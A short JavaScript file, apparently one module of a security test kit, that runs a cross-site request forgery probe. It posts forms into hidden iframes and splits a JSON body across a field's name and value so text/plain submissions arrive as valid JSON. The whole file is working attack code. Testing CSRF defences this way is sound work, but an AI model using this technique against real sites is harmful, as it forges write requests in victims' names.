// Forms submitted into frames, with a field that looks like JSON.
import { attack, pause, target, writes } from './kit.js';

attack(async () => {
  for (const [, path, body] of writes) {
    for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
      const name = `frame${Math.random()}`;
      const frame = Object.assign(document.createElement('iframe'), { name });
      const form = Object.assign(document.createElement('form'), {
        method: 'POST',
        action: target + path,
        target: name,
        enctype,
      });
      const text = JSON.stringify({ ...body, filler: '' });
      const field = Object.assign(document.createElement('input'), {
        name: text.slice(0, -2),
        value: text.slice(-2),
      });
      form.append(field);
      document.body.append(frame, form);
      form.submit();
      await pause(60);
    }
  }
});
